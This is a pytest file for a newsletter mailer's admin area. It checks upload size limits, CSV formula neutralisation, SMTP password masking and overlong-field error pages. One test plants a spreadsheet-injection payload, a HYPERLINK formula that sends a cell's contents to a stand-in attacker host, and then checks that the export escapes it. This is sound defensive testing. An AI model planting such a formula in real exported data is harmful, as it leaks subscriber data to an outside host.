"""The admin area's doors under hostile input: an oversized upload (413 naming the limit), a
formula in the web export, a semicolon file's import report, and an SMTP URL with a password
shown without it."""

from __future__ import annotations

import csv
import io
import re
import warnings
from collections.abc import Iterator

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from mailer import accounts
from mailer.settings import Settings, reset_settings
from mailer.web.app import create_app
from subscribers.lifecycle import subscribe_pending
from subscribers.lists import get_list
from subscribers.models import Subscriber
from tests.builders import Newsroom, newsroom

with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)
    from fastapi.testclient import TestClient

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
# A browser sends its page's Origin with every form post (the admin's same-origin check).
SITE = "https://news.example.com"
BROWSER = {"Origin": SITE}

PASSWORD = "correct horse battery"  # noqa: S105  (a test account's password)
LIMIT = 64 * 1024


@pytest.fixture
def room(session: Session, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Newsroom:
    monkeypatch.setenv("MAILER_UPLOAD_MAX_BYTES", str(LIMIT))
    monkeypatch.setenv("MAILER_SMTP_URL", "smpt://editor:hunter2-Sup3r@relay.example.com:587")
    reset_settings()
    room = newsroom(session, settings)
    accounts.create_user(session, "editor@example.com", PASSWORD)
    session.commit()
    return room


@pytest.fixture
def editor(room: Newsroom) -> Iterator[tuple[TestClient, str]]:
    with TestClient(create_app(), base_url=SITE, headers=BROWSER) as client:
        csrf = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/admin/login").text)
        assert csrf
        client.post(
            "/admin/login",
            data={"email": "editor@example.com", "password": PASSWORD, "csrf_token": csrf.group(1)},
        )
        page = client.get(f"/admin/lists/{room.list_slug}")
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
        assert token
        yield client, token.group(1)


def count(session: Session) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(Subscriber)) or 0


def test_an_upload_over_the_limit_is_413_naming_it_and_imports_nothing(
    editor: tuple[TestClient, str], session: Session, room: Newsroom
) -> None:
    """Hostile input: a 200 KiB CSV file against a 64 KiB limit (and one without a length)."""
    client, csrf = editor
    before = count(session)
    rows = "".join(f"bulk{n}@example.com,Bulk {n}\n" for n in range(8000))
    big = ("email,name\n" + rows).encode()
    assert len(big) > 3 * LIMIT
    answer = client.post(
        f"/admin/lists/{room.list_slug}/import",
        data={"csrf_token": csrf},
        files={"file": ("big.csv", big, "text/csv")},
    )
    assert answer.status_code == 413
    assert "larger than the limit of 64 KiB (65536 bytes, set by MAILER_UPLOAD_MAX_BYTES)" in (
        answer.text
    )
    assert answer.headers["content-security-policy"]  # the 413 page carries the headers too

    def chunks() -> Iterator[bytes]:
        for start in range(0, len(big), 4096):
            yield big[start : start + 4096]

    token, _ = accounts.create_token(session, "crm", scopes=["subscribers"])
    session.commit()
    streamed = client.post(  # no Content-Length: stopped while it is read
        "/api/v1/lists",
        content=chunks(),
        headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"},
    )
    assert streamed.status_code == 413 and "MAILER_UPLOAD_MAX_BYTES" in streamed.json()["detail"]
    assert count(session) == before
    small = client.post(
        f"/admin/lists/{room.list_slug}/import",
        data={"csrf_token": csrf},
        files={"file": ("eu.csv", b"email;name\nsmall@example.com;Small\n", "text/csv")},
    )
    assert small.status_code == 200
    assert "Read as semicolon (;)-separated values (detected from the header)" in small.text
    assert count(session) == before + 1


def test_the_web_export_neutralises_formulas(
    editor: tuple[TestClient, str], session: Session, settings: Settings, room: Newsroom
) -> None:
    """Hostile input: `=HYPERLINK("http://evil.example/?d="&A2,"x")` typed as a name into the
    anonymous subscribe form."""
    client, _csrf = editor
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    subscribe_pending(
        session, get_list(session, room.list_slug), "mallory@example.com", settings.secret(),
        name=formula,
    )  # fmt: skip
    session.commit()
    answer = client.get(f"/admin/lists/{room.list_slug}/export.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.text)))
    header = rows[0]
    mallory = next(dict(zip(header, r, strict=True)) for r in rows if r[0] == "mallory@example.com")
    assert mallory["name"] == "'" + formula
    assert all(not re.match(r"[=+\-@\t\r]", cell) for row in rows for cell in row)


def test_a_test_send_through_a_mistyped_smtp_url_names_it_without_the_password(
    editor: tuple[TestClient, str], room: Newsroom
) -> None:
    client, _ = editor
    page = client.get(f"/admin/issues/{room.issue_slug}")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert csrf
    answer = client.post(
        f"/admin/issues/{room.issue_slug}/test",
        data={"addresses": "editor@example.com", "csrf_token": csrf.group(1)},
    )
    assert "smpt://editor:***@relay.example.com:587" in answer.text
    assert "hunter2-Sup3r" not in answer.text


def test_a_value_past_its_fields_limit_is_a_page_naming_the_field_not_json(
    editor: tuple[TestClient, str], room: Newsroom, session: Session
) -> None:
    """A form post or address FastAPI refuses before the page runs used to answer raw JSON
    (`{"detail": [{"type": "string_too_long", …}]}`) to a person; it is the admin's 422 page,
    naming the field and its limit, and nothing is stored. The API keeps its JSON."""
    client, csrf = editor
    people_before = session.scalar(select(func.count()).select_from(Subscriber))
    long_name = client.post(
        "/admin/lists", data={"slug": "long", "name": "N" * 5_000, "csrf_token": csrf}
    )
    assert long_name.status_code == 422
    assert long_name.headers["content-type"].startswith("text/html")
    assert "The form field “name” is 5,000 characters long; at most" in long_name.text
    assert "Nothing was changed." in long_name.text
    assert "N" * 200 not in long_name.text  # the value is not echoed
    page = client.get("/admin/subscribers?page=999999999999999999999")
    assert page.status_code == 422 and page.headers["content-type"].startswith("text/html")
    assert "The parameter “page”" in page.text
    assert session.scalar(select(func.count()).select_from(Subscriber)) == people_before
    api = client.get("/api/v1/subscribers?limit=abc")
    assert api.headers["content-type"].startswith("application/json")
